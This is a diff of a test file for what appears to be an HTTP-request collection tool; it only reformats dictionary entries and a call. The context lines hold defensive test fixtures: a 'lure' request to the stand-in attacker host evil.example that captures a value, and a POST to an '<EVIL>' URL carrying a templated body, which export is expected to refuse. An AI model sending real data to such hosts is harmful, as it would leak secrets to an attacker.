@@ -93,9 +93,7 @@ WAYS = {
     "folder": {"zz": 'url = "{{a}}/x"\n', "folder": '[variables]\na = "<URL>"\n'},
     "environment": {"zz": 'url = "{{a}}/x"\n', "hq": '[variables]\na = "<URL>"\n'},
     "env-type": {"zz": 'url = "{{a}}/x"\n', "hq": '[env_types.prod.variables]\na = "<URL>"\n'},
-    "host-of-a-variable": {
-        "zz": 'url = "http://{{a}}/x"\n[variables]\na = "<NAME>"\n',
-    },
+    "host-of-a-variable": {"zz": 'url = "http://{{a}}/x"\n[variables]\na = "<NAME>"\n'},
     "part-of-a-variable": {
         "zz": 'url = "{{a}}/x"\n[variables]\na = "http://{{b}}"\n',
         "hq": '[variables]\nb = "<NAME>"\n',
@@ -203,9 +201,7 @@ CARRIED = {
         "collections/lure/first.toml": 'method = "GET"\nurl = "http://evil.example/v"\n'
         '[capture]\nv = "$.v"\n'
     },
-    "pieces-of-a-name": {
-        "collections/lure/first.toml": HOME + '[variables]\nv = "{"\n',
-    },
+    "pieces-of-a-name": {"collections/lure/first.toml": HOME + '[variables]\nv = "{"\n'},
 }
 
 
@@ -581,8 +577,7 @@ def test_no_foreign_request_has_a_template_of_another_program(
     machine: Machine, name: str, body: str
 ) -> None:
     machine.write(
-        "collections/basic/probe.toml",
-        f'method = "POST"\nurl = "<EVIL>/x"\nbody = """{body}"""\n',
+        "collections/basic/probe.toml", f'method = "POST"\nurl = "<EVIL>/x"\nbody = """{body}"""\n'
     )
     ran = machine.run("export", "basic/probe", "--format", name, "--env", "hq")
     assert ran.status != 0
